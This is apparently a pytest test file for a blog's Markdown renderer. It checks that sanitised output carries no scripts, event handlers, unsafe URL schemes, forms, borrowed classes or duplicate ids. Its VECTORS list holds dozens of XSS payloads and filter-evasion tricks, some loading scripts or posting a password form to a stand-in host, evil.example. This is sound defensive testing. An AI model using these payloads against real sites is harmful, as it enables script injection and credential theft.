"""Nothing an author writes becomes script, style, form, foreign chrome or a clash of ids."""

import re
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from blog.rendering import Rendered, render
from blog.rendering.convert import convert
from tests.fuzz import often
from tests.rendering.tree import parsed

JS = "javascript:alert(1)"
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" onload=alert(1)//',
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<img src=`x` onerror=`alert(1)`>",
    '<img name="getElementById" id="createElement" src=x>',
    '<img srcset="x onerror=alert(1)" src=x>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    '<form action="//evil.example"><input name=password type=password><button>ok</button></form>',
    "<input autofocus onfocus=alert(1)>",
    '<input type="image" src="x" onerror="alert(1)">',
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- more --><img src=x onerror=alert(1)>",
    "<a title='<!-- more --><img src=x onerror=alert(1)>'>x</a>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    f"[x]({JS})",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example'onclick=alert(1)//)",
    f"[x][1]\n\n[1]: {JS}",
    f"<{JS}>",
    f"![x]({JS})",
    '![" onerror="alert(1)](x)',
    '![`" onerror=alert(1)`](x)',
    f"[x](https://a.example){{onclick=alert(1) href={JS}}}",
    "# x {onclick=alert(1) style=color:red}",
    "*x*{.site-bar #main onmouseover=alert(1)}",
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
    '*[x]: "><img src=x onerror=alert(1)>\n\nx',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```js x javascript:alert(1) y\nx\n```",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    '<a href="javascript:alert(1)" target=_blank ping=//evil.example>x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<q cite="javascript:alert(1)">x</q>',
    "\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>",
    "\x02klzzwxh:0001\x03*x*",
    '<div class="site-bar modal" role="dialog" tabindex="1" aria-label="x">x</div>',
]
NO_TAGS = {"base", "button", "embed", "form", "iframe", "link", "math", "meta", "object", "script", "select"}
NO_TAGS |= {"style", "svg", "template", "textarea"}
URLS = {"action", "background", "cite", "data", "formaction", "href", "ping", "poster", "src", "srcset"}
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
OURS = re.compile(
    r"admonition(-title)?|note|tip|warning|task|caption|highlight|hll|scroll|anchor|footnote.*|[a-z]{1,2}[a-z0-9]?"
)


def check(html: str) -> None:
    """What must hold of any HTML that is shown, read by a parser that is not the sanitiser's."""
    root = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in root.iter():
        if isinstance(element.tag, str):
            _check_element(element)
    ids = [element.get("id") for element in root.iter() if "id" in element.attrib]
    assert len(ids) == len(set(ids))


def _check_element(element: Element) -> None:
    assert element.tag not in NO_TAGS
    assert element.tag != "input" or {"type": "checkbox", "disabled": ""}.items() <= element.attrib.items()
    for name, value in element.attrib.items():
        assert not name.startswith("on")
        assert name not in {"style", "name", "target", "srcdoc", "form", "ping"}
        assert name not in URLS or _scheme(value) in {"", "http", "https", "mailto", "tel"}, value
    assert all(OURS.fullmatch(name) for name in element.get("class", "").split()), element.attrib


def _scheme(url: str) -> str:
    """The scheme a browser sees: tabs and newlines do not count for it."""
    match = SCHEME.match(re.sub(r"[\t\n\r]", "", url))
    return match[1].lower() if match else ""


def checked(result: Rendered) -> None:
    check(result.html)
    check(result.excerpt)
    assert "\x02" not in result.html


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives(vector: str) -> None:
    for source in (vector, f"文 {vector} 字", f"- {vector}", f"> {vector}", f"## {vector}", f"<div>{vector}"):
        checked(render(f"{source}\n\n<!-- more -->\n\n{source}"))


@given(
    st.lists(st.sampled_from([*VECTORS, "\n", "\n\n", "  ", "`", "*", "<", ">", '"', "[", "]("]), max_size=6)
)
@often(100)
def test_no_mixture_of_vectors_survives(pieces: list[str]) -> None:
    checked(convert("".join(pieces), "", {}))


def test_classes_of_the_page_cannot_be_borrowed() -> None:
    html = render(
        '<div class="bar modal">a</div>\n\n<p class="note tip">b</p>\n\n*c*{.skip}\n\n- d\n{.note}'
    ).html
    assert re.findall(r'class="([^"]*)"', html) == ["role-note"]


def test_ids_are_given_once() -> None:
    html = render('<p id="a">x</p>\n\n## a\n\n## b {#a}\n\n<span id="a b">y</span>').html
    assert re.findall(r' id="([^"]*)"', html) == ["a", "a-1"]


def test_text_in_unknown_tags_stays_but_not_in_scripts() -> None:
    html = render("<center>居中 <font color=red>红</font></center>\n\n<script>x()</script>").html
    assert "居中 红" in html
    assert "x()" not in html


MIXED = [
    "# a\n\n- b\n\n  ```\n  c\n  ```\n\n  |d|\n  |-|\n  |e|\n\n<p>f",
    "<div>\n\n<p>a\n\n- b</div>\n\n</section>",
    "<li>a</li><td>b</td>",
    "<table>\n\n- a\n\n</table>",
    "**a <div>b** c</div>",
    "<b>a\n\nb</b>",
    "- a[^1]\n\n[^1]: b[^1]\n\n    c[^1]",
    "<a href=x>[y](z)</a>",
    "<details>a",
]


@pytest.mark.parametrize("source", [*MIXED, *VECTORS])
def test_what_comes_out_is_valid_in_form(source: str) -> None:
    parsed(render(source).html)
